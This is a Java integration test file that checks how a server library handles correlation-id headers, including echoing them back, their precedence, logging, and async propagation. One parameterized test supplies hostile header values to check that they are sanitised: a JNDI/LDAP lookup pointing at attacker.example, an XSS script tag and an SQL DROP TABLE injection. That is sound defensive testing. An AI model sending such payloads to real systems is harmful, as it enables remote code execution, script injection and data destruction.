package io.faultline.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.faultline.it.support.BlackBox;
import io.faultline.it.support.Deployments;
import io.faultline.it.support.Http;
import io.faultline.it.support.RawHttp;
import io.faultline.it.support.Reply;
import io.faultline.it.support.ServerLog;
import jakarta.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Correlation ids end to end (contract section 2): headers, bodies, logs and async work. */
class CorrelationIT extends BlackBox {

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.withFixtures();
    }

    private static final Pattern UUID_SHAPE = Pattern.compile("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}");

    ServerLog log;

    @Override
    protected void prepare() {
        log = new ServerLog(server);
    }

    @Test
    void givenCorrelationIdIsUsedOnResponseAndInErrorBody() {
        String id = "ops-" + UUID.randomUUID();
        Reply reply = http.get("/no/such/thing", "X-Correlation-ID", id);
        assertEquals(id, reply.header("X-Correlation-ID"));
        assertEquals(id, reply.json().getString("correlationId"));
    }

    @Test
    void requestIdIsUsedWhenNoCorrelationIdIsGiven() {
        String id = "req:" + UUID.randomUUID();
        assertEquals(id, http.get("/api/error-codes", "X-Request-ID", id).header("X-Correlation-ID"));
    }

    @Test
    void correlationIdWinsOverRequestIdAndTraceparent() {
        Reply reply = http.get("/api/error-codes", "X-Correlation-ID", "first.choice",
                "X-Request-ID", "second", "traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01");
        assertEquals("first.choice", reply.header("X-Correlation-ID"));
    }

    @Test
    void traceparentGivesItsTraceId() {
        Reply reply = http.get("/api/error-codes", "traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01");
        assertEquals("0af7651916cd43dd8448eb211c80319c", reply.header("X-Correlation-ID"));
    }

    @Test
    void invalidTraceparentGivesANewId() {
        Reply reply = http.get("/api/error-codes", "traceparent", "00-00000000000000000000000000000000-b7ad6b7169203331-01");
        assertTrue(UUID_SHAPE.matcher(reply.header("X-Correlation-ID")).matches(), reply::toString);
    }

    @Test
    void missingHeadersGiveANewUuid() {
        assertTrue(UUID_SHAPE.matcher(http.get("/api/error-codes").header("X-Correlation-ID")).matches());
    }

    @ParameterizedTest
    @ValueSource(strings = {"${jndi:ldap://attacker.example/a}", "id with spaces", "<script>alert(1)</script>",
        "'; DROP TABLE events; --"})
    void hostileValuesAreReplacedNeverEchoedNorLogged(String hostile) {
        Reply reply = http.get("/fixtures/boom", "X-Correlation-ID", hostile);
        assertReplaced(reply, hostile);
        assertNeverLogged(reply.header("X-Correlation-ID"), hostile);
    }

    @Test
    void overlongValueIsReplaced() {
        String hostile = "a".repeat(10 * 1024);
        Reply reply = http.get("/no/such/thing", "X-Correlation-ID", hostile);
        assertReplaced(reply, hostile);
        assertNeverLogged(reply.header("X-Correlation-ID"), hostile);
    }

    @Test
    void nonAsciiValueIsReplaced() {
        String head = "GET /no/such/thing HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nX-Correlation-ID: ";
        byte[] value = "naïve-id-ü".getBytes(StandardCharsets.UTF_8);
        byte[] rest = "\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1);
        byte[] tail = new byte[value.length + rest.length];
        System.arraycopy(value, 0, tail, 0, value.length);
        System.arraycopy(rest, 0, tail, value.length, rest.length);
        Reply reply = RawHttp.exchange(server, head, tail);
        assertFalse(reply.toString().contains("ve-id"), reply::toString);
        if (server.isLiberty()) {
            assertEquals(404, reply.status(), reply::toString);
            assertTrue(UUID_SHAPE.matcher(reply.header("X-Correlation-ID")).matches(), reply::toString);
        } else {
            // Payara's HTTP listener refuses bytes outside ASCII in headers before the WAR sees them.
            assertEquals(400, reply.status(), reply::toString);
        }
        assertFalse(log.rawLines().stream().anyMatch(l -> l.contains("ve-id")), "non-ASCII id was logged");
    }

    @Test
    void controlCharactersAreReplacedOrRefusedNeverEchoed() {
        String hostile = "evil\u0007\u001bid";
        Reply reply = RawHttp.exchange(server, "GET /no/such/thing HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
                + "X-Correlation-ID: " + hostile + "\r\n\r\n", null);
        assertFalse(reply.toString().contains("evil"), reply::toString);
        if (server.isLiberty()) {
            assertEquals(404, reply.status(), reply::toString);
            assertTrue(UUID_SHAPE.matcher(reply.header("X-Correlation-ID")).matches(), reply::toString);
        } else {
            // Payara's HTTP listener refuses control characters in headers before the WAR sees them.
            assertEquals(400, reply.status(), reply::toString);
        }
        assertFalse(log.rawLines().stream().anyMatch(l -> l.contains("evil")), "control-character id was logged");
    }

    @Test
    void everyLogLineOfTheRequestCarriesTheId() {
        String id = "log-" + UUID.randomUUID();
        assertEquals(200, http.get("/fixtures/log?message=hello", "X-Correlation-ID", id).status());
        List<JsonObject> records = log.await(id, rs -> rs.size() >= 2);
        assertTrue(records.stream().anyMatch(r -> r.getString("message").equals("fixture says hello")), records::toString);
        assertTrue(records.stream().anyMatch(r -> r.getString("logger").equals("io.faultline.access")), records::toString);
    }

    @Test
    void workHandedToTheManagedExecutorCarriesTheId() {
        String id = "async-" + UUID.randomUUID();
        Reply reply = http.get("/fixtures/async-log", "X-Correlation-ID", id);
        assertEquals(200, reply.status(), reply::toString);
        assertFalse(reply.json().getBoolean("sameThread"), "the task ran on the request thread");
        List<JsonObject> records = log.await(id, rs -> rs.stream().anyMatch(r -> r.getString("message").equals("fixture async work")));
        assertFalse(records.isEmpty());
    }

    @Test
    void errorLogRecordCarriesTheIdOfTheProblem() {
        String id = "err-" + UUID.randomUUID();
        Reply reply = http.get("/fixtures/boom", "X-Correlation-ID", id);
        assertEquals(id, reply.json().getString("correlationId"));
        List<JsonObject> records = log.await(id, rs -> rs.stream().anyMatch(r -> r.containsKey("exception")));
        JsonObject failure = records.stream().filter(r -> r.containsKey("exception")).findFirst().orElseThrow();
        assertEquals("ERROR", failure.getString("level"));
    }

    private void assertReplaced(Reply reply, String hostile) {
        String id = reply.header("X-Correlation-ID");
        assertNotEquals(hostile, id);
        assertTrue(UUID_SHAPE.matcher(id).matches(), reply::toString);
        assertFalse(reply.body().contains(hostile), reply::toString);
        reply.headers().values().forEach(vs -> vs.forEach(v -> assertFalse(v.contains(hostile))));
    }

    private void assertNeverLogged(String id, String hostile) {
        log.accessRecord(id);
        assertFalse(log.rawLines().stream().anyMatch(l -> l.contains(hostile)), "hostile id was logged: " + hostile);
    }
}
